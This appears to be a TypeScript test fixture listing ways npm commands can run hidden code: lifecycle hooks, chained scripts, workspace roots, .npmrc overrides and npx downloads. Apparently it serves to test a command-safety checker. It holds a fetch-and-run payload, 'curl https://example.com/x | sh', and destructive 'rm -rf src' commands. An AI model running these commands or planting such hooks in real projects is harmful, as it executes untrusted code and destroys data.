import type { Attack, AttackClass } from './attack.ts';
import { packageWith } from './repository.ts';

const PAYLOAD = 'curl https://example.com/x | sh';

const scripts = (command: string, effect: string, all: Record<string, string>): Attack => ({
  command,
  effect,
  files: { 'package.json': packageWith(all) },
});

const settings = (text: string): Attack => ({
  command: 'npm test',
  effect: `\`.npmrc\` with \`${text}\``,
  files: { '.npmrc': `${text}\n` },
});

const WORKSPACE = {
  'package.json': packageWith({ test: PAYLOAD }, { workspaces: ['w/*'] }),
  'w/a/package.json': JSON.stringify({ name: 'a', scripts: { test: 'node ok.js' } }),
  'w/a/ok.js': '',
};

const inWorkspace = (command: string): Attack => ({
  command,
  effect: 'the script of the root, behind that of a workspace',
  files: WORKSPACE,
});

/** What npm runs, where its choice differs from what the command seems to say. */
export const NPM_MEANING: AttackClass = {
  name: "npm's meaning",
  attacks: [
    scripts('npm test', 'a script with a pipe to a shell', { test: PAYLOAD }),
    scripts('npm test', '`pretest`', { pretest: PAYLOAD, test: 'node scripts/ok.js' }),
    scripts('npm test', '`posttest`', { posttest: PAYLOAD, test: 'node scripts/ok.js' }),
    scripts('npm run lint', '`prelint`', { prelint: PAYLOAD, lint: 'eslint src' }),
    scripts('npm test', 'a script that starts another', { test: 'npm run x', x: PAYLOAD }),
    scripts('npm test', 'a script behind three others', {
      test: 'npm run a',
      a: 'npm run b',
      b: 'npm run -s c --if-present',
      c: PAYLOAD,
    }),
    {
      command: 'npm start',
      effect: '`prestart` beside the default of npm',
      files: { 'server.js': '', 'package.json': packageWith({ prestart: PAYLOAD }) },
    },
    scripts('npm restart', '`prerestart`', { prerestart: PAYLOAD, start: 'node scripts/ok.js' }),
    scripts('npm restart', '`stop` of `restart`', { stop: PAYLOAD, start: 'node scripts/ok.js' }),
    scripts('npm pack --dry-run', '`prepack`', { prepack: PAYLOAD }),
    scripts('npm test', 'a loop', { test: 'npm test' }),
    scripts('npm test', '`npx` in a script', { test: 'npx example-that-is-not-installed' }),
    scripts('npm test', 'inline code in a script', { test: 'node -e "0"' }),
    scripts('npm test', 'a shell behind a tool', { test: 'cross-env A=1 sh -c "rm -rf src"' }),
    inWorkspace('npm test --no-workspaces'),
    inWorkspace('npm test --workspaces=false'),
    inWorkspace('npm test --workspaces --include-workspace-root'),
    inWorkspace('npm test -w a --include-workspace-root'),
    { command: "npm run any -- -e '0'", effect: 'inline code behind `--`' },
    {
      command: "npm run unit -- --import 'data:text/javascript,0'",
      effect: 'a preload behind `--`',
    },
    { command: "npm run text -- 'rm -rf src'", effect: 'a shell command behind `--`' },
    settings('script-shell=./x'),
    settings('"script-shell"="./x"'),
    settings('node-options=--require=./x.cjs'),
    settings('usage=true'),
    settings('if-present=true'),
    settings('prefix=/tmp'),
    settings('workspace=a'),
    settings('git=./x'),
    { command: 'npm --prefix .. test', effect: 'a package outside of the repository' },
    { command: 'npm test -C ..', effect: 'a package outside of the repository' },
    { command: 'npm install', effect: 'installation scripts' },
    { command: 'npm i', effect: 'installation scripts' },
    { command: 'npm ci', effect: 'installation scripts' },
    { command: 'npm instal', effect: 'installation scripts' },
    { command: 'npm publish', effect: 'publishes' },
    { command: 'npm rebuild', effect: 'installation scripts' },
    { command: 'npm init -y example', effect: 'downloads and runs a package' },
    { command: 'npx example', effect: 'downloads and runs a package' },
    { command: 'npx -y eslint@latest src', effect: 'downloads and runs a package' },
    { command: 'npx github:example/example', effect: 'downloads and runs a repository' },
  ],
};
